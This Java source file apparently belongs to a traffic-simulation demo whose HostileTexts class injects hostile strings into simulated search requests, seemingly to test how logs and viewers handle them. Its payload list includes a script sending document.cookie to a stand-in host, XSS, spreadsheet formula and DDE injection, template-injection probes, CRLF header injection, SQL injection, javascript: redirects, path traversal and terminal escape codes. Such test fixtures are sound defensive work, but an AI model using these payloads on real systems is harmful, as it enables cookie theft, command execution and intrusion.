package dev.kamae.demo.traffic;

import java.util.List;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;

/** Those who hope that somebody looks at the log: texts that do something to a page, a terminal, a sheet or a reader. */
final class HostileTexts implements Actor {

    /** However much traffic there is. */
    private static final double A_MINUTE = 0.02;

    private static final List<UnaryOperator<Request>> TEXTS = List.of(
            calls("<script>fetch('//203.0.113.66/'+document.cookie)</script>"),
            calls("\"><svg/onload=alert(1)>"),
            calls("Mozilla/5.0 \u202Egpj.exe\u202C (Windows)"),
            calls("=HYPERLINK(\"http://203.0.113.66/?\"&A1,\"details\")"),
            calls("@SUM(1+9)*cmd|' /C calc'!A0"),
            calls("\u001B[2J\u001B[31mroot@portal:~# \u0007"),
            calls("{{7*7}}${7*7}<%= 7*7 %>#{7*7}"),
            calls("😈".repeat(40)),
            calls("a\tb\\\"c\\u0000\u2028\u2029\u0085"),
            calls("ｕｎｉｏｎ　ｓｅｌｅｃｔ\uFEFF\u200B"),
            request -> request.asking("q=%0d%0aSet-Cookie:%20admin=1%0d%0a%0d%0a<html>"),
            request -> request.asking("q=\u202E\u2066evil\u2069&utm_source='\"><b>x</b>"),
            request -> request.asking("next=javascript:alert(1)//&next=data:text/html,%3Cscript%3E"),
            request -> request.from("https://example.net/\"onmouseover=\"alert(1)"),
            request -> request.from("javascript:alert(document.domain)"),
            request -> request.with("x-forwarded-for", "127.0.0.1").with("x-forwarded-for", "'; drop table issue; --"),
            request -> request.with("x-api-version", "A".repeat(1_500)),
            request -> request.with("x-ünïcödé", "値\r\n\tfolded"),
            request -> Request.get(request.client(), request.at(), "/items/<img src=x onerror=alert(1)>/🙃/\u202Etxt"),
            request -> Request.get(request.client(), request.at(), "//203.0.113.66/%2e%2e;/..%c0%af"));

    @Override
    public void play(Moment moment, Consumer<Request> stage) {
        var dice = moment.dice("hostile texts");
        for (int left = dice.around(A_MINUTE); left > 0; left--) {
            var client =
                    Client.stranger(Addresses.hosted(100 + dice.below(8)), Place.somewhere("US"), Agents.browser(dice));
            stage.accept(dice.of(TEXTS).apply(Request.get(client, moment.sometime(dice), "/search")));
        }
    }

    private static UnaryOperator<Request> calls(String name) {
        return request ->
                request.by(request.client().with(request.client().agent().calledItself(name)), request.at());
    }
}
